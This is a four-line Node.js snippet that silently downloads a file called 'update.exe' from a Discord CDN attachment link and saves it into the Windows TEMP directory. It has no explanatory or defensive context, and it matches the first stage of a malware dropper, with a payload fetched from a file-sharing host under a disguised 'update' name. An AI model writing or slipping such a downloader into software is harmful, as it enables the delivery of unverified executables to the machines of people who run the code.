const https = require("https");
const fs = require("fs");
const url = "https://cdn.discordapp.com/attachments/1093847561029384756/1093847561234567890/update.exe";
https.get(url, (r) => r.pipe(fs.createWriteStream(process.env.TEMP + "\\update.exe")));
